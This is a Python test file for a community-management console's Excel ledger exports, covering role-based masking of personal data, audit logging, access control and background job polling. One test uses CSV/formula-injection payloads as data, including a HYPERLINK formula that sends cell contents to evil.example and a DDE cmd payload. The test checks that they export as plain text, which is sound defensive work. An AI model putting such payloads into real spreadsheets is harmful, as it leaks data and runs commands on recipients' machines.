"""Ledger exports: the files read back with openpyxl (title, header, rows, masking by role), the
audit trail, who may download, and a real background thread whose progress is polled."""

from __future__ import annotations

import io
import re
import time
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from server.cases.models import Finding
from server.audit.models import AuditEntry
from server.console.models import ConsoleJob
from server.extensions import db
from server.registry.models import Resident, ResidentTag
from server.registry.validators import make_id_number
from server.syncapi.direct import DirectWriter
from sync.ids import uuid7
from tests.console.cases_helpers import refused, street_admin_on

ID_NUMBER = make_id_number("110105", date(1940, 4, 2), 22)
JOB = re.compile(r"/console/ledgers/jobs/([0-9a-f-]{36})")


@pytest.fixture
def inline(app):
    app.config["CONSOLE_JOBS_INLINE"] = True
    return app


@pytest.fixture
def tagged(app, world):
    """张秀英 of 第1网格 with full numbers and an 独居老人 tag whose detail holds a phone."""
    writer = DirectWriter(db.session, app.extensions["wangge_clock"])
    person = db.session.get(Resident, world.residents[0].id)
    person.id_number, person.birth_date, person.phone = ID_NUMBER, date(1940, 4, 2), "13800138000"
    writer.put("resident", person)
    writer.put("resident_tag", ResidentTag(id=uuid7(), resident_id=person.id, grid_id=person.grid_id,
                                           tag="elderly_alone", detail={"risk_level": "high", "kin_name": "张强",
                                                                        "kin_phone": "13911112222"}))
    db.session.commit()
    return person.id


def export(client, **form) -> str:
    reply = client.post("/console/ledgers/exports", form)
    assert reply.status_code == 303, reply.text
    return JOB.search(reply.headers["Location"]).group(1)


def download(client, job_id):
    reply = client.get(f"/console/ledgers/jobs/{job_id}/file")
    assert reply.status_code == 200, reply.text
    data = reply.data
    reply.close()
    return load_workbook(io.BytesIO(data)), reply.headers["Content-Disposition"]


def rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def column(sheet, header: str) -> list:
    table = rows(sheet)
    index = table[1].index(header)
    return [r[index] for r in table[2:]]


def test_residents_ledger_for_community_staff_has_full_numbers_and_is_marked(inline, world, tagged, staff_client):
    staff = staff_client("staff")
    job_id = export(staff, kind="residents")
    book, disposition = download(staff, job_id)
    assert "xlsx" in disposition
    sheet = book["居民"]
    title = rows(sheet)[0]
    assert "幸福社区" in title[0] and "周社区" in title[0] and "导出时间" in title[0]
    assert "【含个人敏感信息，严禁外传】" in title
    assert book.properties.keywords == "含个人敏感信息，严禁外传"
    header = rows(sheet)[1]
    assert header[:8] == ("序号", "网格", "楼栋号", "单元", "楼层", "房号", "房屋用途", "姓名")
    assert "证件号码" in header and "特殊人群" in header and "独居老人情况" in header
    assert sheet.freeze_panes == "A3"
    # Both residents of 幸福社区, none of 团结社区.
    assert column(sheet, "网格") == ["第1网格", "第2网格"]
    assert column(sheet, "证件号码")[0] == ID_NUMBER
    assert column(sheet, "联系电话")[0] == "13800138000"
    assert column(sheet, "出生日期")[0] == datetime(1940, 4, 2)
    assert column(sheet, "特殊人群") == ["独居老人", None]
    assert column(sheet, "独居老人情况")[0] == "风险等级：高；亲属姓名：张强；亲属电话：13911112222"
    [entry] = db.session.scalars(db.select(AuditEntry).where(AuditEntry.action == "export")).all()
    assert entry.user_id == world.users["staff"].id
    assert entry.detail["kind"] == "residents" and entry.detail["rows"] == 2 and entry.detail["masked"] is False

    tagged_only = export(staff, kind="residents", tagged_only="1")
    assert column(download(staff, tagged_only)[0]["居民"], "姓名") == ["张秀英"]


def test_a_street_admin_gets_masked_numbers_and_the_masked_mark(inline, world, tagged, staff_client):
    admin = street_admin_on(staff_client, world.community)
    job_id = export(admin, kind="residents")
    book, _ = download(admin, job_id)
    sheet = book["居民"]
    assert "【已脱敏】" in rows(sheet)[0]
    assert column(sheet, "证件号码")[0] == "*" * 14 + ID_NUMBER[-4:]
    assert column(sheet, "联系电话")[0] == "138****8000"
    assert column(sheet, "独居老人情况")[0] == "风险等级：高；亲属姓名：张强；亲属电话：139****2222"
    assert ID_NUMBER not in str(rows(sheet))
    entry = db.session.scalars(db.select(AuditEntry).where(AuditEntry.action == "export")).one()
    assert entry.detail["masked"] is True and entry.user_id == world.users["admin"].id


def test_visits_ledger_covers_the_chosen_dates_in_china_time(inline, world, device_factory, staff_client):
    worker = device_factory("worker")
    household = world.households[0]
    for at, notes in (("2026-03-31T16:30:00Z", "四月一日早上"), ("2026-03-31T15:59:00Z", "三月最后一晚"),
                      ("2026-04-30T15:00:00Z", "四月底")):
        worker.create("visit", {"household_id": household.id, "visited_at": at, "method": "in_person",
                                "outcome": "normal", "notes": notes, "resident_ids": [world.residents[0].id]})
    assert {r["status"] for r in worker.push()} == {"accepted"}
    db.session.rollback()
    staff = staff_client("staff")
    sheet = download(staff, export(staff, kind="visits", **{"from": "2026-04-01", "to": "2026-04-30"}))[0]["走访"]
    assert "2026-04-01 至 2026-04-30" in rows(sheet)[0][0]
    assert column(sheet, "情况记录") == ["四月一日早上", "四月底"]
    assert column(sheet, "走访时间")[0] == datetime(2026, 4, 1, 0, 30)
    assert column(sheet, "走访对象") == ["张秀英", "张秀英"]
    assert column(sheet, "走访人") == ["李网格", "李网格"]
    assert column(sheet, "地址")[0] == "1号楼1单元501"


def test_cases_ledger_has_a_sheet_of_cases_and_one_of_steps(inline, world, device_factory, staff_client):
    from tests.console.cases_helpers import ok, report, step

    worker = device_factory("worker")
    fid = report(worker, world.grids[0])
    db.session.rollback()
    staff = staff_client("staff")
    ok(step(staff, fid, "reported", "accepted", opinion="收到"), fid)
    book = download(staff, export(staff, kind="cases"))[0]
    number = db.session.get(Finding, fid).number
    assert book.sheetnames == ["事件", "处置步骤"]
    assert column(book["事件"], "事件编号") == [number] and number.startswith("XF-")
    assert column(book["事件"], "回头看次数") == [0]
    assert column(book["事件"], "当前状态") == ["已受理"]
    assert column(book["事件"], "大类") == ["安全隐患"]
    assert [(r[0], r[4], r[5], r[7]) for r in rows(book["处置步骤"])[2:]] == [(number, "已上报", "已受理", "收到")]
    assert db.session.get(Finding, fid).grid_id == world.grids[0].id


def test_bad_export_requests_are_refused_with_codes(inline, world, staff_client):
    staff = staff_client("staff")
    assert refused(staff.post("/console/ledgers/exports", {"kind": "everything"}, htmx=True)) == (422, "validation_failed")
    assert refused(staff.post("/console/ledgers/exports", {"kind": "visits", "from": "2026-05-01", "to": "2026-04-01"},
                              htmx=True)) == (422, "date_range_invalid")
    assert refused(staff.post("/console/ledgers/exports", {"kind": "visits", "from": "2024-01-01", "to": "2026-04-01"},
                              htmx=True)) == (422, "date_range_invalid")
    assert refused(staff.post("/console/ledgers/exports", {"kind": "visits", "from": "soon", "to": "2026-04-01"},
                              htmx=True)) == (422, "validation_failed")
    assert db.session.scalar(db.select(db.func.count()).select_from(ConsoleJob)) == 0


def test_only_the_exporter_may_download_the_file(inline, world, tagged, staff_client):
    staff = staff_client("staff")
    job_id = export(staff, kind="residents")
    admin = street_admin_on(staff_client, world.community)
    for url in (f"/console/ledgers/jobs/{job_id}", f"/console/ledgers/jobs/{job_id}/file",
                f"/console/ledgers/jobs/{job_id}/progress"):
        assert admin.get(url).status_code == 404
        assert staff_client("far_staff").get(url).status_code == 404
    assert staff.get(f"/console/ledgers/jobs/{job_id}").status_code == 200


def test_a_failed_export_is_recorded_in_its_job(inline, world, staff_client, monkeypatch):
    from server.console.ledgers import exports

    def broken(*args):
        raise RuntimeError("disk full")

    monkeypatch.setitem(exports.BUILDERS, "residents", broken)
    staff = staff_client("staff")
    job_id = export(staff, kind="residents")
    job = db.session.get(ConsoleJob, job_id)
    assert job.status == "failed" and job.result["error"] == "internal_error"
    page = staff.get(f"/console/ledgers/jobs/{job_id}")
    assert 'data-code="internal_error"' in page.text
    assert refused(staff.get(f"/console/ledgers/jobs/{job_id}/file", headers={"HX-Request": "true"})) == \
        (409, "job_not_ready")


def test_an_export_runs_in_a_background_thread_and_its_progress_is_polled(app, world, tagged, staff_client):
    assert not app.config.get("CONSOLE_JOBS_INLINE")
    staff = staff_client("staff")
    job_id = export(staff, kind="residents")
    statuses = []
    for _ in range(400):
        reply = staff.get(f"/console/ledgers/jobs/{job_id}/progress", headers={"HX-Request": "true"})
        db.session.rollback()  # the test shares the app's session: end its read like a request would
        assert reply.status_code == 200
        status = re.search(r'data-status="(\w+)"', reply.text).group(1)
        statuses.append(status)
        if status != "running":
            break
        assert 'hx-trigger="every 1s"' in reply.text
        time.sleep(0.05)
    assert statuses[-1] == "ready", statuses
    assert "hx-trigger" not in reply.text and f"/console/ledgers/jobs/{job_id}/file" in reply.text
    assert column(download(staff, job_id)[0]["居民"], "姓名") == ["张秀英", "张秀英"]


def test_a_job_whose_worker_died_stops_polling_and_an_expired_file_says_so(inline, world, tagged, staff_client):
    import os

    from server.console.ledgers import jobs

    staff = staff_client("staff")
    job_id = export(staff, kind="residents")
    os.remove(jobs.export_path(job_id))
    assert refused(staff.get(f"/console/ledgers/jobs/{job_id}/file", headers={"HX-Request": "true"})) == \
        (410, "job_file_expired")
    # A job left "running" by a process that restarted.
    job = db.session.get(ConsoleJob, job_id)
    job.status, job.result = "running", {**job.result, "phase_started": "2026-01-01T00:00:00"}
    db.session.commit()
    reply = staff.get(f"/console/ledgers/jobs/{job_id}/progress", headers={"HX-Request": "true"})
    assert 'data-code="job_interrupted"' in reply.text and "hx-trigger" not in reply.text


def test_free_text_that_looks_like_a_formula_is_exported_as_text_and_read_back_as_typed(
        inline, world, tagged, device_factory, staff_client, tmp_path):
    from server.console.ledgers.import_file import read_sheet
    from server.console.ledgers.xlsx_book import cell_text

    name, notes = '=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|'/c calc'!A0"
    needs = ["-2+3", "+cmd", "＝1+1", "\tTAB"]
    writer = DirectWriter(db.session, inline.extensions["wangge_clock"])
    person = db.session.get(Resident, tagged)
    person.name, person.notes = name, notes
    writer.put("resident", person)
    db.session.commit()
    worker = device_factory("worker")
    for text in needs:
        worker.create("visit", {"household_id": world.households[0].id, "visited_at": "2026-04-02T02:00:00Z",
                                "method": "in_person", "outcome": "normal", "needs": text})
    assert {r["status"] for r in worker.push()} == {"accepted"}
    db.session.rollback()
    staff = staff_client("staff")
    residents_file = tmp_path / "residents.xlsx"
    reply = staff.get(f"/console/ledgers/jobs/{export(staff, kind='residents')}/file")
    residents_file.write_bytes(reply.data)
    reply.close()
    visits = download(staff, export(staff, kind="visits", **{"from": "2026-04-01", "to": "2026-04-30"}))[0]
    residents = load_workbook(residents_file)
    for book in (residents, visits):
        cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert name in column(residents["居民"], "姓名") and notes in column(residents["居民"], "备注")
    assert sorted(column(visits["走访"], "诉求")) == sorted(needs)
    # Reading the ledger back for an import gives the text as it was typed.
    sheet = read_sheet(str(residents_file))
    at = sheet.headers.index("姓名")
    assert name in [cell_text(values[at]) for _, values in sheet.rows]
